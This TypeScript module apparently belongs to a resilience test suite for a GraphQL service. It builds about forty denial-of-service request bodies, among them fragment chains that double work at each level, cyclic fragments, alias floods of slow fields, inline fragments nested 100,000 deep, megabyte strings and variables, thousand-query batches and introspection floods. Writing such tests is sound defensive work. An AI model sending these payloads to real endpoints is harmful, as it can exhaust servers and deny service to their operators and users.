/** Requests made to bring a service down with few bytes: what each sends, as anybody with any key could. */
import { createHash } from 'node:crypto';

export interface Attack {
  name: string;
  /** The whole body, for what is no plain query. */
  body: string;
}

const times = (count: number, make: (at: number) => string): string =>
  Array.from({ length: count }, (_, at) => make(at)).join(' ');
const query = (name: string, text: string, variables?: object): Attack => ({
  name,
  body: JSON.stringify({ query: text, ...(variables ? { variables } : {}) }),
});
const nested = (depth: number, open: string, heart: string): string =>
  `${open.repeat(depth)}${heart}${'}'.repeat(depth)}`;

const machineAndBack = (depth: number): string =>
  `{ jobs(first: 200) { edges { node { ${nested(depth, 'machine { jobs { ', 'id')}${'}'.repeat(depth)} } } } }`;

/** Fragments that spread the next one twice: each level doubles what a reader without memory walks. */
const chain = (levels: number, spread: (next: string) => string, on: string, heart: string): string =>
  `${times(levels, (at) => `fragment F${at} on ${on} { ${spread(`...F${at + 1}`)} }`)} fragment F${levels} on ${on} { ${heart} }`;

export const attacks: readonly Attack[] = [
  query(
    'fragments that spread the next twice, 24 deep',
    `{ ...F0 } ${chain(24, (next) => `${next} ${next}`, 'Query', '__typename')}`,
  ),
  query('the same, 100 deep', `{ ...F0 } ${chain(100, (next) => `${next} ${next}`, 'Query', '__typename')}`),
  query(
    'the same among the fields of a list',
    `{ jobs { edges { node { ...F0 } } } } ${chain(24, (next) => `${next} ${next}`, 'Job', 'id')}`,
  ),
  query(
    'the same with fields between',
    `{ jobs { edges { node { ...F0 } } } } ${chain(
      5,
      (next) => `machine { jobs { ${next} } } also: ` + `machine { jobs { ${next} } }`,
      'Job',
      'id',
    )}`,
  ),
  query('inline fragments 500 deep', nested(500, '{ ... on Query ', '{ __typename }')),
  query('a fragment within itself', '{ ...A } fragment A on Query { ...B } fragment B on Query { ...A }'),
  query('a hundred aliases of a slow field', `{ ${times(100, (at) => `a${at}: readiness { __typename }`)} }`),
  query('a hundred aliases of another slow field', `{ ${times(100, (at) => `a${at}: bench { __typename }`)} }`),
  query('as many aliases of a slow field as are let in', `{ ${times(5, (at) => `a${at}: readiness { __typename }`)} }`),
  query('a thousand aliases of a list', `{ ${times(1000, (at) => `a${at}: places { edges { node { id } } }`)} }`),
  query(
    'as many aliases of a list as are let in',
    `{ ${times(24, (at) => `a${at}: places(first: 1) { edges { node { id } } }`)} }`,
  ),
  query('one field a thousand times', `{ ${'__typename '.repeat(1000)} }`),
  query('one list a thousand times', `{ ${'jobs { edges { node { id } } } '.repeat(400)} }`),
  query('lists within lists', machineAndBack(4)),
  query('lists within lists beyond the depth', machineAndBack(40)),
  query('deep beyond reading', nested(1900, '{ a ', '{ b }')),
  query('deep beyond any reading', nested(100_000, '{ a ', '{ b }')),
  query(
    'a list value within lists, 2000 deep',
    `{ jobs(first: ${'['.repeat(1900)}1${']'.repeat(1900)}) { __typename } }`,
  ),
  query('a directive a thousand times', `{ __typename ${'@include(if: true) '.repeat(800)} }`),
  query('directives that are not there', `{ __typename ${times(1000, (at) => `@d${at}`)} }`),
  query('a thousand variables', `query (${times(900, (at) => `$v${at}: Int`)}) { __typename }`),
  query('a variable of a megabyte', 'query ($v: Int) { jobs(first: $v) { __typename } }', { v: 'x'.repeat(1_000_000) }),
  query('a variable with a hundred thousand fields', 'mutation ($v: AddPlaceInput!) { addPlace(input: $v) { id } }', {
    v: Object.fromEntries(Array.from({ length: 60_000 }, (_, at) => [`field${at}`, at])),
  }),
  {
    name: 'a variable of lists within lists',
    body: `{"query":"query ($v: Int) { jobs(first: $v) { __typename } }","variables":{"v":${'['.repeat(400_000)}${']'.repeat(400_000)}}}`,
  },
  {
    name: 'a batch of a thousand',
    body: `[${times(1000, () => '{"query":"{ __typename }"}').replaceAll('} {', '},{')}]`,
  },
  query('a megabyte of tokens', `{ ${'a '.repeat(500_000)} }`),
  query('a megabyte of braces', '{'.repeat(1_000_000)),
  query('a megabyte of one name', `{ ${'a'.repeat(1_000_000)} }`),
  query('a megabyte of comments', `{ ${'#\n'.repeat(340_000)} __typename }`),
  query('a megabyte of one text', `{ jobs(after: "${'x'.repeat(1_000_000)}") { __typename } }`),
  query('a megabyte of text in lines', `{ jobs(after: """${'\n x'.repeat(250_000)}""") { __typename } }`),
  query(
    'a thousand operations',
    times(600, (at) => `query q${at} { __typename }`),
  ),
  query('a thousand unknown fields', `{ ${times(1000, (at) => `zz${at}`)} }`),
  query(
    'four hundred fragments of each other',
    `{ ...F0 } ${times(
      150,
      (at) =>
        `fragment F${at} on Query { __typename ` +
        `${times(Math.min(5, 149 - at), (next) => `...F${at + 1 + next}`)} }`,
    )}`,
  ),
  query(
    'introspection by a hundred aliases',
    `{ ${times(100, (at) => `a${at}: __schema { types { name fields { name type { name } } } }`)} }`,
  ),
  query(
    'introspection that goes round',
    '{ __schema { types { fields { type { fields { type { fields { type { name } } } } } } } } }',
  ),
  query('types by name, a thousand', `{ ${times(600, (at) => `a${at}: __type(name: "Query") { fields { name } }`)} }`),
  {
    name: 'a persisted query of another hash',
    body: JSON.stringify({
      query: '{ __typename }',
      extensions: { persistedQuery: { version: 1, sha256Hash: createHash('sha256').update('another').digest('hex') } },
    }),
  },
  {
    name: 'a persisted query that is a list',
    body: JSON.stringify({ extensions: { persistedQuery: { version: 1, sha256Hash: ['x'] } } }),
  },
  { name: 'no query', body: '{"variables":{}}' },
  { name: 'a query that is a number', body: '{"query":7}' },
];
